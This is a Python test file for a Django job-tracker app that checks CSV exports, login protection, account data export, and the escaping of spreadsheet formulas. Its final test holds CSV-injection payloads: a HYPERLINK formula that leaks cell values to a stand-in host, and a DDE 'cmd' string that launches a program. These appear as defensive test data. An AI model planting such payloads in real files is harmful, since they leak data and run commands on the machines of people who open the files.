import csv
import io

import pytest

from accounts.services import user_data_export
from config.timezones import user_timezone
from tests.factories import (
    ApplicationFactory,
    CompanyFactory,
    InterviewFactory,
    PostingFactory,
)
from tracking.applications import services
from tracking.models import StageChange

pytestmark = pytest.mark.django_db


@pytest.fixture
def journey(user):
    app = services.application_create_external(user=user, company_name="Acme, Inc.", title="Dev")
    other = services.application_create_external(user=user, company_name="Globex", title="SRE")
    for key in ("applied", "screening", "interview"):
        services.application_move(
            application=app, stage=services.stage_for_key(user=user, key=key), by=user
        )
    services.application_move(
        application=other, stage=services.stage_for_key(user=user, key="rejected"), by=user
    )
    services.note_add(application=app, body="Prepared a *demo*")
    services.reminder_create(
        application=app,
        due_at=services.quick_pick_due(pick="3d", tz=user_timezone(user)),
        message="Chase",
    )
    services.contact_add(application=app, name="Rita Recruiter", email="rita@example.com")
    InterviewFactory(application=app)
    services.calendar_token_regenerate(user=user)
    services.tracking_setup(user=user)
    return app, other


def rows(response) -> list[dict]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_applications_csv_has_the_current_stage_and_dates(owner_client, journey, other_user):
    ApplicationFactory(user=other_user, company_name="Not mine")
    data = rows(owner_client.get("/applications/export/applications.csv"))
    assert [(r["company"], r["stage"]) for r in data] == [
        ("Acme, Inc.", "Interview"),
        ("Globex", "Rejected"),
    ]
    assert data[0]["applied_at"] and not data[1]["applied_at"]


def test_stage_changes_csv_has_every_change(owner_client, user, journey):
    data = rows(owner_client.get("/applications/export/stage-changes.csv"))
    assert len(data) == StageChange.objects.for_user(user).count() == 6
    acme = [(r["from_stage"], r["to_stage"]) for r in data if r["company"] == "Acme, Inc."]
    assert acme == [
        ("", "Interested"),
        ("Interested", "Applied"),
        ("Applied", "Screening"),
        ("Screening", "Interview"),
    ]
    assert all(r["changed_at"] for r in data)


def test_exports_need_login(client):
    assert client.get("/applications/export/applications.csv").status_code == 302


def test_account_data_export_includes_the_whole_tracker(user, journey):
    data = user_data_export(user=user)["data"]
    for label in [
        "tracking.stage",
        "tracking.application",
        "tracking.stagechange",
        "tracking.note",
        "tracking.reminder",
        "tracking.contact",
        "tracking.interview",
        "tracking.trackingsettings",
        "tracking.calendarfeedtoken",
    ]:
        assert data.get(label), label
    assert len(data["tracking.stagechange"]) == 6
    assert data["tracking.note"][0]["body"] == "Prepared a *demo*"


EVIL_COMPANY = '=HYPERLINK("https://evil.test/?leak="&B2&C3,"Evil Co")'


def test_export_defuses_spreadsheet_formulas_in_every_text_cell(owner_client, user):
    """Issue 16, point 2: an employer's company name reached the job seeker's CSV as a live
    formula. Every text cell starting with = + - @ tab or CR gets a leading quote."""
    posting = PostingFactory(company=CompanyFactory(name=EVIL_COMPANY), title="+1 Engineer")
    app, _ = services.application_create_from_posting(user=user, posting=posting)
    services.application_update(
        application=app,
        salary_expectation="-5000",
        resume_version="@SUM(A1:A9)",
        cover_letter_version="\tcmd",
        next_action="\r=1+1",
    )
    stage = services.stage_create(user=user, name="-2+3+cmd|' /C calc'!A0")
    services.application_move(application=app, stage=stage, by=user)

    data = rows(owner_client.get("/applications/export/applications.csv"))
    row = data[0]
    assert row["company"] == "'" + EVIL_COMPANY
    assert row["title"] == "'+1 Engineer"
    assert row["salary_expectation"] == "'-5000"
    assert row["resume_version"] == "'@SUM(A1:A9)"
    assert row["cover_letter_version"] == "'\tcmd"
    assert row["next_action"] == "'\r=1+1"
    assert row["stage"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["id"] == str(app.pk)  # numbers stay numbers
    assert row["posting_id"] == str(posting.pk)
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())

    changes = rows(owner_client.get("/applications/export/stage-changes.csv"))
    assert {r["company"] for r in changes} == {"'" + EVIL_COMPANY}
    assert changes[-1]["to_stage"] == "'-2+3+cmd|' /C calc'!A0"


def test_plain_text_and_numbers_are_written_as_they_are():
    from config.csvsafe import safe_cell

    assert safe_cell("Acme, Inc.") == "Acme, Inc."
    assert safe_cell("a=b") == "a=b"  # only the first character matters
    assert safe_cell(-3) == -3 and safe_cell(None) == ""
    assert safe_cell("-3") == "'-3"  # typed text is text, even when it looks like a number
